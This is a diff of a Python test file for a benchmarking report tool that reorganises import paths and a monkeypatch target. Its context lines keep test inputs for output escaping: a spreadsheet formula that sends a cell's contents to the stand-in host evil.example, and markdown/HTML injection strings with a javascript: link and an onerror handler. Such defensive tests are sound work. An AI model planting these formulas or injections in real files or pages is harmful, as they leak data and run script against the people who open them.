@@ -14,13 +14,13 @@ import pytest
 from rich.table import Table
 from test_report import GOOD, SCRATCH, arm, compare, make_results
 
-from sim2real.printable import printable
-from sim2real.records import BenchResults
+from sim2real.cli.terminal import PlainConsole
+from sim2real.files.printable import printable
 from sim2real.report import write_report
 from sim2real.report.markdown import _escape
-from sim2real.results_file import load_results
 from sim2real.stats import summarise
-from sim2real.terminal import PlainConsole
+from sim2real.stats.records import BenchResults
+from sim2real.stats.results_file import load_results
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
 LINK = "[reset](javascript:alert(1)) ![x](http://evil.example/x.png) <img src=x onerror=alert(1)>"
@@ -114,7 +114,7 @@ def test_statistics_take_time_in_proportion_to_the_records(shape: str) -> None:
 def test_of_many_targets_the_first_are_drawn_and_all_are_in_the_tables(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr("sim2real.report.figures.MOST", 2)
+    monkeypatch.setattr("sim2real.report.figures.table.MOST", 2)
     monkeypatch.setattr("sim2real.report.page.MOST", 2)
     page = write_report(_many(40, "target"), tmp_path).html.read_text(encoding="utf-8")
     assert page.count("<figcaption>hopper \N{RIGHTWARDS ARROW} x1<") == page.count("<figcaption>") / 2
